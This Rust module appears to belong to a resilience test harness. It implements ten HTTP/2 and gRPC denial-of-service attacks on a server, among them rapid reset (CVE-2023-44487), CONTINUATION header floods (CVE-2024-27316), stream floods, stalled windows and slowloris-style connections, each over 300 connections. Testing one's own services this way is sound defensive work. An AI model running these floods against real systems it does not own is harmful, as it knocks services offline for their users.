//! What hostile peers do. Each assault is made from one peer and returns the connections that it goes on with; dropped, it ends.

use std::net::{Ipv4Addr, SocketAddr};

use super::wire::{self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, WINDOW_UPDATE, Wire};

const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const SIGN_UP: &str = "/circonus.usermanagement.v1.Identity/SignUp";
const HEALTH: &str = "/grpc.health.v1.Health/Check";

pub(crate) type Assault = fn(SocketAddr, Ipv4Addr) -> Vec<Wire>;

/// All of them, by what they are called. What is done to TLS stands in `handshakes`, for a listener without it knows no handshake.
pub(crate) const ALL: [(&str, Assault); 10] = [
    ("silence", silence),
    ("half a preface", half_a_preface),
    ("requests that stall", stalled_requests),
    ("thousands of streams", thousands_of_streams),
    ("messages that unpack", unpacking),
    ("answers not taken, windows closed", closed_windows),
    ("answers not taken, nothing read", nothing_read),
    ("rapid resets", resets),
    ("header floods", headers),
    ("small frames", small_frames),
];

/// More than one peer may have, and so many that one more costs little.
const CONNECTIONS: usize = 300;

pub(crate) fn connections(to: SocketAddr, from: Ipv4Addr, mut say: impl FnMut(&mut Wire)) -> Vec<Wire> {
    let connect = || {
        let mut wire = Wire::connect(to, from);
        say(&mut wire);
        wire
    };
    std::iter::repeat_with(connect).take(CONNECTIONS).collect()
}

fn speaking(to: SocketAddr, from: Ipv4Addr, settings: &[u8], mut say: impl FnMut(&mut Wire)) -> Vec<Wire> {
    let begin = [wire::PREFACE, &wire::frame(wire::SETTINGS, 0, 0, &[]), settings].concat();
    connections(to, from, |wire| {
        wire.send(&begin);
        say(wire);
    })
}

pub(crate) fn silence(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    connections(to, from, |_| {})
}

pub(crate) fn half_a_preface(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    connections(to, from, |wire| {
        wire.send(&wire::PREFACE[..12]);
    })
}

fn numbers(streams: u32) -> impl Iterator<Item = u32> {
    (0..streams).map(|number| 2 * number + 1)
}

fn begin(stream: u32, path: &str) -> Vec<u8> {
    wire::frame(HEADERS, END_HEADERS, stream, &wire::call(path))
}

fn ask(stream: u32, path: &str, request: &[u8]) -> Vec<u8> {
    let message = wire::message(request);
    let pieces = message.chunks(16 * 1024).flat_map(|piece| wire::frame(DATA, 0, stream, piece)).collect();
    [begin(stream, path), pieces, wire::frame(DATA, END_STREAM, stream, &[])].concat()
}

/// More bytes of messages than one peer may have, each without its end. No window is passed: there are rounds, and windows open again between.
pub(crate) fn stalled_requests(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    let head = [&[0], &(1_u32 << 20).to_be_bytes()[..]].concat();
    let piece = [b'x'; 16 * 1024];
    let calls = numbers(4).flat_map(|stream| [begin(stream, SIGN_UP), wire::frame(DATA, 0, stream, &head)].concat());
    let calls = calls.collect::<Vec<_>>();
    let round = numbers(4).flat_map(|stream| wire::frame(DATA, 0, stream, &piece)).collect::<Vec<_>>();
    let mut wires = speaking(to, from, &[], |wire| {
        wire.send(&calls);
    });
    for _ in 0..5 {
        for wire in &mut wires {
            wire.send(&round);
        }
    }
    wires
}

pub(crate) fn thousands_of_streams(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    let calls = numbers(100).flat_map(|stream| begin(stream, REFLECTION)).collect::<Vec<_>>();
    speaking(to, from, &[], |wire| {
        wire.send(&calls);
    })
}

/// Half a million entries in each message, all but the end of the call: an empty one is two bytes on its way, and fifty when it was read.
pub(crate) fn unpacking(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    let message = wire::message(&[0x12, 0].repeat(512 * 1024 - 8));
    let begun = begin(1, "/circonus.usermanagement.v1.UserManagement/BatchInviteUsers");
    let mut wires = speaking(to, from, &[], |wire| {
        wire.send(&begun);
    });
    wires.truncate(20);
    let ping = wire::frame(PING, 0, 0, &[0; 8]);
    let pieces: Vec<_> = message.chunks(16 * 1024).map(|piece| [&wire::frame(DATA, 0, 1, piece), &ping[..]].concat()).collect();
    for wire in &mut wires {
        // who asks whether it was read doesn't pass the window
        let _ = pieces.iter().all(|piece| wire.send(piece) && wire.ponged());
    }
    wires
}

/// A question whose answer is the whole contract.
fn reflection(stream: u32) -> Vec<u8> {
    let symbol = b"circonus.usermanagement.v1.Operations";
    let request = [&[0x22, u8::try_from(symbol.len()).unwrap()], &symbol[..]].concat();
    ask(stream, REFLECTION, &request)
}

pub(crate) fn closed_windows(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    let questions = numbers(100).flat_map(reflection).collect::<Vec<_>>();
    speaking(to, from, &wire::setting(4, 0), |wire| {
        wire.send(&questions);
    })
}

pub(crate) fn nothing_read(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    let questions = numbers(100).flat_map(reflection).collect::<Vec<_>>();
    let wider = wire::frame(WINDOW_UPDATE, 0, 0, &(wire::WIDEST - 65_535).to_be_bytes());
    let settings = [wire::setting(4, wire::WIDEST), wider].concat();
    speaking(to, from, &settings, |wire| {
        wire.send(&questions);
    })
}

/// Calls that are taken back at once (CVE-2023-44487).
pub(crate) fn resets(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    let pair = |stream: u32| [ask(stream, HEALTH, &[]), wire::frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat();
    let calls = numbers(200).flat_map(pair).collect::<Vec<_>>();
    speaking(to, from, &[], |wire| {
        wire.send(&calls);
    })
}

/// Header fields without end (CVE-2024-27316).
pub(crate) fn headers(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    let fields = wire::field("x-of-no-use", &"x".repeat(100)).repeat(100);
    let more = wire::frame(CONTINUATION, 0, 1, &fields);
    speaking(to, from, &[], |wire| {
        let mut going_on = wire.send(&wire::frame(HEADERS, 0, 1, &wire::call(HEALTH)));
        for _ in 0..20 {
            going_on = going_on && wire.send(&more);
        }
    })
}

/// A message a byte at a time, and frames with none.
pub(crate) fn small_frames(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
    let head = [&[0], &(1_u32 << 20).to_be_bytes()[..]].concat();
    let drops = [wire::frame(DATA, 0, 1, b"x"), wire::frame(DATA, 0, 1, b"")].concat().repeat(2000);
    let call = [begin(1, SIGN_UP), wire::frame(DATA, 0, 1, &head), drops].concat();
    speaking(to, from, &[], |wire| {
        wire.send(&call);
    })
}
